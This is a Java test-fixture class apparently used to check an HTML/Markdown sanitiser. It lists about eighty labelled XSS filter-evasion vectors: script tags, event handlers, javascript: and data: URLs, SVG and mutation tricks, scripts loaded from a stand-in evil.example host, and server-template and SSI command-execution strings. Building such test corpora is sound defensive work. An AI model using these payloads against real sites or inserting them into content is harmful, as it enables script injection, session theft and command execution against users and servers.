package org.amparo.testing;

import java.util.List;

/** Ways to hide code in content: the classes of OWASP's filter evasion cheat sheet and more. */
public final class Vectors {

  /** The vectors, each after the name of its class and {@code " = "}. */
  public static final List<String> ALL =
      List.of(
          "plain script = <script>alert(0)</script>",
          "script by source = <SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
          "script in mixed case = <ScRiPt>alert(1)</sCrIpT>",
          "script split by itself = <scr<script>ipt>alert(1)</scr</script>ipt>",
          "script with junk in the tag = <SCRIPT/XSS SRC=\"//evil.example/x.js\"></SCRIPT>",
          "script never closed = <SCRIPT SRC=//evil.example/.j>",
          "extra brackets = <<SCRIPT>alert(1);//\\<</SCRIPT>",
          "quote before the bracket = \"><script>alert(1)</script>",
          "end of a title = </title><script>alert(1)</script>",
          "end of a script = </script><script>alert(1)</script>",
          "end of a style = </style><script>alert(1)</script>",
          "end of a comment = --><script>alert(1)</script><!--",
          "event handler = <img src=x onerror=alert(1)>",
          "event handler without quotes or spaces = <svg/onload=alert(1)>",
          "event handler on what is allowed = <b onmouseover=alert(1)>b</b>",
          "event handler after a slash = <details/open/ontoggle=alert(1)>",
          "event handler by an attribute's quotes = \" onmouseover=\"alert(1)",
          "event handler by single quotes = ' onfocus='alert(1)' autofocus='",
          "event handler with a line break = <p\nonclick\n=\nalert(1)>",
          "event handler behind a grave accent = <img src=`x`onerror=alert(1)>",
          "script address = <a href=\"javascript:alert(1)\">x</a>",
          "script address in Markdown = [x](javascript:alert(1))",
          "script address in mixed case = [x](JaVaScRiPt:alert(2))",
          "script address by reference = [x]\n\n[x]: javascript:alert(1)",
          "script address in brackets = <javascript:alert(1)>",
          "script address with a tab = [x](<java\tscript:alert(1)>)",
          "script address with a tab as entity = [x](jav&#x09;ascript:alert(1))",
          "script address with a line break as entity = [x](jav&#10;ascript:alert(1))",
          "script address with NUL as entity = [x](java&#0;script:alert(1))",
          "script address in entities = [x](&#106;&#97;&#118;&#97;&#115;cript&colon;alert(1))",
          "script address in long entities = [x](&#0000106avascript:alert(1))",
          "script address after a space = [x](<&#14;  javascript:alert(1)>)",
          "script address percent-encoded = [x](javascript%3Aalert(1))",
          "vbscript address = [x](vbscript:msgbox(1))",
          "data address = [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "picture from data = ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
          "picture by script = ![x](javascript:alert(1))",
          "picture with a handler in its words = ![x\" onerror=\"alert(1)](y.png)",
          "title of a link = [x](https://x.example \"a\\\" onclick=\\\"alert(1)\")",
          "drawing with a script = <svg><script>alert(1)</script></svg>",
          "drawing that animates = <svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "drawing that uses another = <svg><use href=\"data:image/svg+xml,x#y\"></svg>",
          "drawing with HTML = <svg><foreignObject><iframe src=javascript:alert(1)>",
          "formula = <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "style element = <style>body{background:url(//evil.example/)}</style>",
          "style by import = <style>@import'//evil.example/x.css';</style>",
          "style attribute = <p style=\"background:url(javascript:alert(1))\">x</p>",
          "style with expression = <div style=\"width:expression(alert(1))\">",
          "style that covers the page = <div style=\"position:fixed;inset:0\">x</div>",
          "frame = <iframe src=\"javascript:alert(1)\"></iframe>",
          "frame with a page = <iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "object = <object data=\"javascript:alert(1)\"></object>",
          "embedded = <embed src=\"//evil.example/x.swf\">",
          "base = <base href=\"javascript:alert(1)//\">",
          "meta that leads away = <meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "link to a style = <link rel=stylesheet href=\"javascript:alert(1)\">",
          "form = <form action=\"javascript:alert(1)\"><input type=submit>",
          "form of elsewhere = <button formaction=\"javascript:alert(1)\" form=x>x</button>",
          "picture as input = <input type=image src=\"javascript:alert(1)\">",
          "background = <table background=\"javascript:alert(1)\"><tr><td>x</table>",
          "body = <body onload=alert(1)>",
          "video = <video><source onerror=\"alert(1)\"></video>",
          "sound = <audio src=x onerror=alert(1)>",
          "marquee = <marquee onstart=alert(1)>x</marquee>",
          "list style = <ul style=\"list-style-image:url('javascript:alert(1)')\"><li>x</ul>",
          "conditional comment = <!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
          "processing instruction = <?xml version=\"1.0\"?><x xmlns=\"x\"><a onclick=alert(1)>",
          "character data = <![CDATA[<script>alert(1)</script>]]>",
          "mutation by noscript = <noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "mutation by template = <template><s><template><s><img src=x onerror=alert(1)>",
          "mutation by select = <select><style></select><img src=x onerror=alert(1)></style>",
          "mutation by a comment's end = <!--!> <img src=x onerror=alert(1)> -->",
          "seven bits = +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "another alphabet's brackets = ＜script＞alert(1)＜/script＞",
          "template of the server = ${7*7}<#assign x=\"freemarker.template.utility.Execute\"?new()>",
          "template of the browser = {{constructor.constructor('alert(1)')()}}",
          "server's include = <!--#exec cmd=\"/bin/echo\"-->",
          "named element = <b id=\"amparoSearch\" name=\"location\">x</b>",
          "code of a block = ```<script>\nalert(1)\n```",
          "heading's anchor = ## x {#\"onclick=alert(1)}");

  private Vectors() {}

  /** Returns a vector without the name of its class. */
  public static String code(String vector) {
    return vector.substring(vector.indexOf(" = ") + 3);
  }
}
